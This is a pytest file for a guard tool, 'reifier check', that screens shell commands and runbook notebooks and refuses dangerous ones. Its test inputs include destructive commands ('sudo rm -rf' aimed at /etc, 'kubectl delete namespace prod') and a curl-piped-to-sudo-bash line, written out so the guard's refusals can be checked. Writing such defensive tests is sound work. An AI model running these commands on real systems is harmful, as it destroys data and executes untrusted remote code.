"""``reifier check``: the real console script on commands and notebook files."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from reifier.cli import cli

SCRIPT = Path(sys.executable).with_name("reifier")


def run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(SCRIPT), "check", *args], check=False, capture_output=True,
                          text=True, env=env, timeout=60)


def invoke(*args: str) -> Any:
    return CliRunner().invoke(cli, ["check", *args])


def write_nb(path: Path, cells: list[dict[str, Any]]) -> Path:
    nb = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    path.write_text(json.dumps(nb), encoding="utf-8")
    return path


def code(source: str, **meta: Any) -> dict[str, Any]:
    return {"cell_type": "code", "id": source[:8].replace(" ", "-"), "metadata": meta,
            "source": source, "outputs": [], "execution_count": None}


def test_refused_command_exits_3_and_names_rule_and_part(reifier_env: dict[str, str]) -> None:
    proc = run("--command", "sudo rm -rf /tmp/../etc", env=reifier_env)
    assert proc.returncode == 3, proc.stderr
    assert "rm_catastrophic" in proc.stdout
    assert "/etc" in proc.stdout and "[0:23]" in proc.stdout


def test_allowed_command_exits_0(reifier_env: dict[str, str]) -> None:
    proc = run("--command", "grep 'rm -rf' Makefile", env=reifier_env)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert proc.stdout.startswith("allowed")


def test_json_output_is_one_object(reifier_env: dict[str, str]) -> None:
    proc = run("--json", "-c", "curl -fsSL https://example.invalid/i.sh | sudo bash",
               env=reifier_env)
    assert proc.returncode == 3
    data = json.loads(proc.stdout)
    assert data["allowed"] is False
    finding = data["command"]["findings"][0]
    assert finding["rule"] == "pipe_to_shell"
    assert finding["snippet"] == "sudo bash" and finding["unknown"] is False


def test_allow_and_strict_flags() -> None:
    assert invoke("-c", "python3 -c 'print(1)'").exit_code == 3
    assert invoke("-c", "python3 -c 'print(1)'", "--allow", "unresolvable").exit_code == 0
    strict = invoke("-c", "python3 -c 'print(1)'", "--allow", "unresolvable", "--strict")
    assert strict.exit_code == 3


def test_unknown_rule_name_is_bad_input() -> None:
    result = invoke("-c", "ls", "--allow", "no_such_rule")
    assert result.exit_code == 2
    assert "no_such_rule" in result.output and "rm_catastrophic" in result.output


def test_notebook_cells_are_checked(tmp_path: Path, reifier_env: dict[str, str]) -> None:
    nb = write_nb(tmp_path / "fix.ipynb", [
        code("TARGET=/", tags=["parameters"]),
        {"cell_type": "markdown", "metadata": {}, "source": "Never run `rm -rf /`."},
        code("kubectl get pods -n prod"),
        code("kubectl delete namespace prod"),
    ])
    proc = run(str(nb), env=reifier_env)
    assert proc.returncode == 3
    assert "draft" in proc.stdout  # never approved: refused whatever the guard says
    assert "code cell 3: refused" in proc.stdout and "kubectl_delete" in proc.stdout
    assert "code cell 2" not in proc.stdout


def test_approved_clean_runbook_passes_and_edit_fails(tmp_path: Path, reifier_env: dict[str, str]) -> None:
    from tests.functional.runbook_factory import approve, make_runbook

    md = make_runbook(Path(reifier_env["REIFIER_WORKSPACE"]), "ok", cells=["systemctl status nginx"])
    approve(reifier_env, md)
    proc = run(str(md), "--json", env=reifier_env)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    data = json.loads(proc.stdout)
    assert data["allowed"] is True and data["runbooks"][0]["status"] == "approved"
    md.write_text(md.read_text().replace("systemctl status nginx", "systemctl stop nginx"))
    stale = run(str(md), env=reifier_env)
    assert stale.returncode == 3 and "stale" in stale.stdout


@pytest.mark.parametrize(("name", "content", "message"), [
    ("missing.ipynb", None, "no such runbook"),
    ("broken.ipynb", "{not json", "not a notebook"),
    ("list.ipynb", "[1, 2]", "no cells list"),
    ("runbook.txt", "# hi", "a runbook is a .md or .ipynb file"),
])
def test_bad_paths_exit_2_with_one_line(tmp_path: Path, reifier_env: dict[str, str], name: str,
                                        content: str | None, message: str) -> None:
    path = tmp_path / name
    if content is not None:
        path.write_text(content, encoding="utf-8")
    proc = run(str(path), env=reifier_env)
    assert proc.returncode == 2
    assert message in proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1 and "Traceback" not in proc.stderr
    assert proc.stdout == ""


def test_no_target_is_bad_input() -> None:
    result = invoke()
    assert result.exit_code == 2
    assert "--command" in result.output


def test_list_rules() -> None:
    result = invoke("--list-rules", "--json")
    assert result.exit_code == 0
    names = [r["name"] for r in json.loads(result.output)]
    assert "unresolvable" in names and "fork_bomb" in names
